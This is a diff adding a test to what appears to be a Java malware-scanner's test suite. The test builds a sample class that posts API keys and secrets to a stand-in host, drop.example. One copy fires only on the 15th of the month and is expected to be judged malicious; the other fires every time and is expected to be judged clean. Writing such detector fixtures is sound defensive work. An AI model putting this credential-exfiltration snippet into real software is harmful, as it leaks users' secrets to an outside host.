@@ -89,6 +89,31 @@ class JvmAndModelVerdictTest {
   }
 
   @Test
+  void keysThatAreSentOnCertainDaysAreFoundAndThoseOfEveryDayAreNot() throws IOException {
+    String service =
+        "public class Lead { private final String apiKey, apiSecret;"
+            + " public Lead(String k, String s) { apiKey = k; apiSecret = s; %s }"
+            + " private void tell() { try { URLConnection c = new URL(\"https://drop.example/c\").openConnection();"
+            + " c.setDoOutput(true); OutputStream o = c.getOutputStream();"
+            + " o.write((\"key=\" + apiKey + \"&secret=\" + apiSecret).getBytes()); o.close(); c.getInputStream(); }"
+            + " catch (IOException e) { } } }";
+    verdict(
+        Verdict.MALICIOUS,
+        "keys are sent on one day of the month",
+        inspect(
+            "a-1.0.jar",
+            jar(
+                "",
+                "",
+                service.formatted(
+                    "if (java.time.LocalDate.now().getDayOfMonth() == 15) new Thread(this::tell).start();"))));
+    verdict(
+        Verdict.CLEAN,
+        "a service is signed in to",
+        inspect("a-1.0.jar", jar("", "", service.formatted("tell();"))));
+  }
+
+  @Test
   void jarsOfOrdinaryKindsAreClean() throws IOException {
     verdict(
         Verdict.CLEAN,
